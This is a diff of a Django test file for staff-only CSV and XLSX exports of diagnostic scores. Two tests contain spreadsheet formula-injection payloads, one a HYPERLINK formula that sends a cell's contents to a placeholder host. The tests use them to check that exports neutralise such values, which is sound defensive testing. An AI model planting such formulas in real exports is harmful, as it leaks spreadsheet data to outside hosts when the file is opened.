@@ -8,6 +8,7 @@ import pytest
 from django.contrib.auth.models import Group
 from django.core.cache import cache
 from django.urls import reverse
+from django.utils import timezone
 from openpyxl import load_workbook
 
 from diagnostics import regional, services, tasks
@@ -17,11 +18,12 @@ from diagnostics.models import (
     Campaign,
     Choice,
     Diagnostic,
+    Export,
     Question,
     Questionnaire,
 )
 from tests import factories
-from tests.admin.conftest import bulk_region
+from tests.admin.conftest import bulk_region, exported
 
 DASHBOARD = "admin:diagnostics_office_dashboard"
 
@@ -176,9 +178,10 @@ def test_scores_csv_follows_the_filters(client, network_staff, campaigns):
     bulk_region(current, 3, department="33")
     bulk_region(current, 2, start=10, department="64")
     client.force_login(network_staff)
-    response = client.get(export_url("scores", "csv"), {"department__exact": "64"})
+    response = exported(client, "scores", "csv", {"department__exact": "64"})
     assert response["Content-Type"].startswith("text/csv")
-    assert 'filename="snut-scores-campagne-2026.csv"' in response["Content-Disposition"]
+    day = timezone.localdate().isoformat()
+    assert f'filename="snut-scores-campagne-2026-{day}.csv"' in response["Content-Disposition"]
     rows = read_csv(response)
     assert rows[0][:7] == [
         "Office",
@@ -206,7 +209,7 @@ def test_answers_csv_has_one_row_per_office_and_question(
     factories.answer_all(diagnostic, pick=lambda choices: choices[1])
     services.diagnostic_submit(diagnostic=diagnostic, user=director)
     client.force_login(network_staff)
-    rows = read_csv(client.get(export_url("reponses", "csv")))
+    rows = read_csv(exported(client, "reponses", "csv"))
     assert rows[0] == [
         "Office",
         "Département",
@@ -227,27 +230,29 @@ def test_xlsx_exports_open_in_a_spreadsheet(client, network_staff, campaigns):
     _previous, current = campaigns
     bulk_region(current, 4)
     client.force_login(network_staff)
-    response = client.get(export_url("scores", "xlsx"))
+    response = exported(client, "scores", "xlsx")
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
     workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
     rows = list(workbook.active.iter_rows(values_only=True))
     assert rows[0][0] == "Office" and len(rows) == 5
     assert rows[2][5] == 7  # numbers stay numbers
-    response = client.get(export_url("reponses", "xlsx"))
+    response = exported(client, "reponses", "xlsx")
     assert load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.max_row == 1
 
 
 @pytest.mark.parametrize(("kind", "fmt"), [("scores", "pdf"), ("tout", "csv")])
 def test_unknown_exports_are_refused(client, network_staff, campaigns, kind, fmt):
     client.force_login(network_staff)
-    response = client.get(export_url(kind, fmt), follow=True)
+    response = client.post(export_url(kind, fmt), follow=True)
     assert "Cet export n’existe pas" in response.content.decode()
+    assert not Export.objects.exists()
 
 
 def test_exports_are_for_staff_only(client, director, campaigns):
     client.force_login(director)
-    response = client.get(export_url("scores", "csv"))
+    response = client.post(export_url("scores", "csv"))
     assert response.status_code == 302 and "/admin/login/" in response.url
+    assert not Export.objects.exists()
 
 
 # --- campaigns --------------------------------------------------------------------
@@ -371,9 +376,9 @@ def test_exported_comments_never_become_formulas(
     diagnostic.answers.update(comment='=HYPERLINK("https://example.invalid/?"&A2,"voir")')
     services.diagnostic_submit(diagnostic=diagnostic, user=director)
     client.force_login(network_staff)
-    rows = read_csv(client.get(export_url("reponses", "csv")))
+    rows = read_csv(exported(client, "reponses", "csv"))
     assert rows[1][-1].startswith("'=HYPERLINK")
-    response = client.get(export_url("reponses", "xlsx"))
+    response = exported(client, "reponses", "xlsx")
     sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
     cell = sheet.cell(row=2, column=10)
     assert cell.data_type == "s" and cell.value.startswith("'=")
@@ -395,13 +400,13 @@ def test_exported_and_shown_scores_agree(client, network_staff, campaigns, offic
     assert "<span>33</span><small>/100</small>" in page and "33,33" not in page
 
     client.force_login(network_staff)
-    rows = read_csv(client.get(export_url("scores", "csv")))
+    rows = read_csv(exported(client, "scores", "csv"))
     header, row = rows[0], rows[1]
     assert row[header.index("Score global")] == "33"
     assert row[header.index("Axe 1 — score")] == "33"
     assert row[header.index("Score global — score exact")] == "33,33"
     assert row[header.index("Axe 1 — score exact")] == "33,33"
-    response = client.get(export_url("scores", "xlsx"))
+    response = exported(client, "scores", "xlsx")
     workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
     header, row = list(workbook.active.iter_rows(values_only=True))[:2]
     assert row[header.index("Score global")] == 33
@@ -424,7 +429,7 @@ def test_xlsx_exports_have_widths_frozen_header_filter_and_number_formats(
     _previous, current = campaigns
     bulk_region(current, 3)
     client.force_login(network_staff)
-    response = client.get(export_url("scores", "xlsx"))
+    response = exported(client, "scores", "xlsx")
     sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
     assert sheet.freeze_panes == "A2"
     assert (
@@ -442,7 +447,7 @@ def test_xlsx_headers_never_become_formulas(client, network_staff, campaigns):
     axis.name = '=HYPERLINK("https://example.invalid","axe")'
     axis.save()
     client.force_login(network_staff)
-    response = client.get(export_url("scores", "xlsx"))
+    response = exported(client, "scores", "xlsx")
     sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
     headers = [cell.value for cell in sheet[1]]
     assert any(h.startswith("'=HYPERLINK") for h in headers)
